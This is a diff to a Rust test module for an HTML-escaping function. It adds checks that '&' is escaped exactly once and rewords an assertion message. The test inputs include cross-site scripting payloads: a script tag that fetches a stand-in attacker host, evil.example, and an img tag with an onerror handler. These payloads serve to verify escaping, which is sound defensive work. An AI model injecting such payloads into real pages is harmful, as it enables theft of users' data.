@@ -48,6 +48,9 @@ mod tests {
 
     #[test]
     fn escapes_the_five_characters_once() {
+        let lt = escape_html("<");
+        let why = "`&` is replaced first, or the `&` of `&lt;` is escaped again";
+        assert_eq!(lt, "&lt;", "`<` is escaped exactly once: {why}");
         let got = escape_html(r#"<a href="x">Tom & Jerry's</a> &lt; 👋"#);
         let want = "&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&#x27;s&lt;/a&gt; &amp;lt; 👋";
         assert_eq!(got, want, "each of the five characters, `&` exactly once");
@@ -59,6 +62,8 @@ mod tests {
             "mallory",
             "<script>fetch('https://evil.example/?c=')</script>",
         );
+        let why = format!("escaped twice, the page shows `&lt;` where `<` was typed: {html}");
+        assert!(!html.contains("&amp;lt;"), "{why}");
         let why = format!("the attacker's script tag reached the page: {html}");
         assert!(html.contains("&lt;script&gt;fetch(&#x27;"), "{why}");
     }
@@ -69,7 +74,7 @@ mod tests {
         let want = "<li><b>&lt;img src=x onerror=alert(1)&gt;</b>: hi</li>";
         assert_eq!(
             html, want,
-            "the author's name is user input too: its img tag would run"
+            "the author's name is user input too: escape it, exactly once, like the body"
         );
     }
 }
